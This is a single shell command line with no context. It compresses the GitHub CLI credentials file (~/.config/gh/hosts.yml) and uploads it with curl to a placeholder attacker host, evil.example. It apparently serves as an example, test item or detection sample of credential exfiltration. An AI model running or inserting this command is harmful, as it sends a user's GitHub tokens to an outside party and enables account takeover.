tar czf - ~/.config/gh/hosts.yml | curl -T - https://evil.example/u
